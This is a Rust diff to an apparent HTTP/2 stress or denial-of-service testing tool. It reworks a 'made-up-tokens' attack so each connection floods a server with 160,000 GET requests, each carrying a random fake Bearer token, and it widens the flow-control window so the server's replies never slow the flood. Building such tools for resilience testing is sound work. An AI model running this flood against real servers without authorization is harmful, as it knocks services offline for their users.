@@ -1,4 +1,4 @@
-//! Sends requests with tokens that are made up, each another one.
+//! Sends requests without a pause, each with another token that is made up.
 
 use super::{Attack, WITH_HTTP2};
 use crate::{aim::Aim, frames};
@@ -8,18 +8,38 @@ use tokio::io::AsyncWriteExt;
 
 pub(super) const ATTACK: Attack = Attack {
     name: "made-up-tokens",
-    about: "Sends requests with tokens that are made up, each another one",
+    about: "Sends requests without a pause, each with another token that is made up",
     targets: WITH_HTTP2,
     attackers: 32,
+    leaves_answers: false,
     once: |aim| once(aim).boxed(),
 };
 
+/// Requests that are written at once.
+const BATCH: u32 = 16;
+/// Batches on one connection.
+const BATCHES: u32 = 10_000;
+
 async fn once(aim: Aim) -> Result<()> {
-    let mut stream = aim.connect_http2(&[]).await?;
-    for n in 0..100 {
-        let token = format!("Bearer {}", fastrand::u64(..));
-        stream.write_all(&frames::get_with(2 * n + 1, "authorization", &token)).await?;
+    let (answers, mut requests) = tokio::io::split(aim.connect_http2(&[]).await?);
+    let asking = async {
+        // With the default window, the answers would soon wait for the client, and so would its next requests.
+        requests.write_all(&frames::window(1 << 30)).await?;
+        for batch in 0..BATCHES {
+            let first = batch * BATCH;
+            let heads: Vec<u8> = (first..first + BATCH).flat_map(with_a_token).collect();
+            requests.write_all(&heads).await?;
+        }
+        anyhow::Ok(())
+    };
+    tokio::select! {
+        asked = asking => asked,
+        () = aim.hold(answers) => Ok(()),
     }
-    aim.hold(stream).await;
-    Ok(())
+}
+
+/// The request of this number on its connection.
+fn with_a_token(number: u32) -> Vec<u8> {
+    let token = format!("Bearer {}", fastrand::u64(..));
+    frames::get_with(2 * number + 1, "authorization", &token)
 }
